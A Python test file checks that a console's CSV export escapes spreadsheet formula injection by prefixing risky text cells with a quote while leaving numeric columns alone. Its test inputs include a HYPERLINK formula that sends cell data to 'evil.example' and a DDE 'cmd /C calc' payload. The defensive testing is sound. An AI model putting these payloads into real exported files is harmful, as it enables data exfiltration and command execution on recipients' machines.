"""The CSV edge of the console, pure: OWASP's formula guard on text cells, never on the numbers we write."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from adapters.web.console.export import CSV_FIELDS, csv_document, formula_safe, ledger_csv
from adapters.web.console.queries import LedgerRow


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("https://evil.example/?d="&A1,"x")', "+SUM(A1)", "-2+3",
                                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "-", "=",
                                  # what an importer that trims white space would leave starting the cell
                                  " =1", "\n=1", "\u3000=1", "  +1",
                                  # full-width operators, read as formulas by spreadsheets set up for CJK input
                                  "\uff1d1+1", "\uff0bSUM(A1)", "\uff0d1", "\uff20SUM(1)"])
def test_a_cell_starting_a_formula_gets_a_single_quote(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "general", "Ada Lovelace", "a=b", " a=1", "'=1", "#dev", "1-2", "a\n=1", "   "])
def test_other_text_is_unchanged(text: str) -> None:
    assert formula_safe(text) == text


def _parsed(document: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document)))


def test_numbers_we_write_stay_numbers_and_text_is_guarded() -> None:
    document = csv_document(("n", "cost", "name"), [(-5, "-0.5", "-0.5"), (7, "0.25", 'a, "b"\nc')],
                            number_fields={"n", "cost"})
    assert _parsed(document) == [["n", "cost", "name"], ["-5", "-0.5", "'-0.5"], ["7", "0.25", 'a, "b"\nc']]
    assert document.startswith("n,cost,name\r\n-5,-0.5,'-0.5\r\n")  # numbers unquoted, RFC 4180 line ends
    # A column not declared a number is text, whatever the type of its cells.
    assert _parsed(csv_document(("a",), [(-1,)])) == [["a"], ["'-1"]]


def test_a_row_of_the_wrong_length_is_an_error() -> None:
    with pytest.raises(ValueError):
        csv_document(("a", "b"), [("only one",)])


def test_the_ledger_csv_guards_names_and_leaves_figures_alone() -> None:
    row = LedgerRow(id=3, started_at=datetime(2026, 11, 26, 9, 30), channel="slack:C1", person="slack:U2",
                    kind="chat", model="seed-2-0-code", status="ok", prompt_tokens=1200, cached_tokens=500,
                    completion_tokens=-1, reasoning_tokens=0, web_searches=0, cost_nanos=-1_600_000, thread_pk=None,
                    channel_name="+general", person_name="=HYPERLINK(\"https://evil.example\")")
    [header, cells] = _parsed(ledger_csv([row]))
    assert tuple(header) == CSV_FIELDS
    assert dict(zip(header, cells, strict=True)) == {
        "id": "3", "started_at": "2026-11-26T09:30:00", "channel": "slack:C1", "person": "slack:U2", "kind": "chat",
        "model": "seed-2-0-code", "status": "ok", "prompt_tokens": "1200", "cached_tokens": "500",
        "completion_tokens": "-1", "reasoning_tokens": "0", "web_searches": "0", "cost_usd": "-0.0016",
        "channel_name": "'+general", "person_name": "'=HYPERLINK(\"https://evil.example\")"}
